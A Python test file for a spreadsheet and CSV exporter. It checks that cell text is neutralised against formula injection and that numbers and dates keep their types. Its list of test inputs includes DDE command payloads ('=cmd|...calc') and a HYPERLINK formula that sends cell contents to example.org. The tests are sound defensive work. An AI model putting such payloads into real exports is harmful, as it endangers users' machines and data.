"""Whatever a cell holds, no spreadsheet runs it; and what comes as a number or a date stays one."""

import csv
import re
import unicodedata
from datetime import date, datetime
from io import BytesIO, StringIO

import fastexcel
import polars as pl
import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from keepsight.core.spreadsheets import Sheet, csv_parts, harmless, write_workbook

ATTACKS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/C calc'!A0", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "'=1", '"=1',
    "''=1", "＝1", "＋1", "－1", "＠1", "\u2212 1", "\ufeff=1", "\u200b=1", "\u2060@1", "“=1", "`=1", "﹢1", "⁼1",
    "\u202e=1", "\x00=1", '=HYPERLINK("http://example.org?x="&A1,"see")', " \u3000 -2+3+cmd|' /C calc'!A0",
)  # fmt: skip
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁺⁻⁼₊₋₌\u2212"
BEFORE = " '\"\t\r\n\u00a0\u3000\ufeff\u200b\u2060“”‘’`\x00\x0b\x1f"
any_text = st.text(max_size=40) | st.text(alphabet=BEFORE + SIGNS + "1a|!", max_size=12)
seen_text = st.text(alphabet=st.characters(exclude_categories=["C", "Z"]), max_size=8) | st.text(
    alphabet=" '\"“" + SIGNS + "1a|!", max_size=5
)


def runs(shown: str) -> bool:
    """What a spreadsheet might take for a formula, said anew: the first character that is not skipped is a sign."""
    skipped = shown.lstrip(' \t\r\n\x0b\x0c\x00\u00a0\u3000\ufeff\u200b\u2060"')
    return skipped[:1] in SIGNS and skipped != "" and not re.fullmatch("\u2212[0-9.,]+%?", skipped, re.ASCII)


def written_csv(rows, headings=("a", "b")) -> list[list[str]]:
    text = b"".join(csv_parts(Sheet("t", headings, rows))).decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))


def written_xlsx(rows, headings=("a",)) -> pl.DataFrame:
    file = BytesIO()
    write_workbook(file, Sheet("t", headings, rows))
    return fastexcel.read_excel(file.getvalue()).load_sheet(0).to_polars()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_does_not_begin_a_cell(attack):
    assert harmless(attack).startswith("'")
    assert not runs(written_csv([[attack, "x"]])[1][0])


@given(any_text)
@example("'")
@example("")
def test_no_text_begins_as_a_formula(text):
    assert not runs(harmless(text))
    for cell in written_csv([[text, text]])[1]:
        assert not runs(cell)
        assert not any(unicodedata.category(character) == "Cc" for character in cell)


@given(seen_text, seen_text)
def test_different_texts_stay_different(one, other):
    assume(one != other)
    assert harmless(one) != harmless(other)


@given(st.text(alphabet=st.characters(categories=["L", "N"]), max_size=30))
def test_ordinary_text_is_left_as_it_is(text):
    assert harmless(text) == text


@settings(max_examples=40, deadline=None)
@given(st.lists(any_text.filter(lambda text: text.strip() != ""), min_size=1, max_size=20))
def test_a_workbook_holds_no_formula_and_reads_back(texts):
    file = BytesIO()
    write_workbook(file, Sheet("t", ["a"], [[text] for text in texts]))
    read = fastexcel.read_excel(file.getvalue()).load_sheet(0, dtypes="string").to_polars()["a"].to_list()
    assert [cell or "" for cell in read] == [harmless(text) for text in texts]
    assert not any(runs(cell or "") for cell in read)
    import zipfile

    sheet = zipfile.ZipFile(BytesIO(file.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


@given(st.integers(-(2**53), 2**53), st.dates(date(1900, 3, 1), date(2200, 1, 1)))
def test_numbers_and_dates_stay_so_in_csv(number, day):
    assert written_csv([[number, day]])[1] == [str(number), day.isoformat()]


def test_numbers_and_dates_stay_so_in_a_workbook():
    read = written_xlsx([[-3, date(2020, 6, 3), datetime(2020, 6, 3, 9, 30), -2.5, True]], list("abcde"))
    assert read.row(0) == (-3, datetime(2020, 6, 3), datetime(2020, 6, 3, 9, 30), -2.5, "Yes")


def test_csv_is_as_excel_reads_it():
    whole = b"".join(csv_parts(Sheet("t", ["a", "b"], [["é", None]])))
    assert whole == b'\xef\xbb\xbf"a","b"\r\n"\xc3\xa9",""\r\n'


def test_csv_reads_back_with_polars():
    rows = [[f'Ives, {n} "said"', n, date(2020, 1, 1)] for n in range(1200)]
    read = pl.read_csv(b"".join(csv_parts(Sheet("t", ["who", "n", "on"], rows))))
    assert read["who"].to_list() == [row[0] for row in rows]
    assert read["n"].to_list() == list(range(1200))


def test_lone_halves_of_characters_and_odd_numbers_are_written():
    assert written_csv([["\ud800x", float("nan")]])[1] == ["\ufffdx", ""]


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_memory_stays_flat(fmt, tmp_path):
    import tracemalloc

    def peak(count: int) -> int:
        sheet = Sheet("t", [str(n) for n in range(12)], ([f"cell {n}" for _ in range(12)] for n in range(count)))
        tracemalloc.start()
        with open(tmp_path / f"out.{fmt}", "wb") as file:
            if fmt == "csv":
                for part in csv_parts(sheet):
                    file.write(part)
            else:
                write_workbook(file, sheet)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    assert peak(20_000) < 1.5 * peak(2_000) + 1_000_000
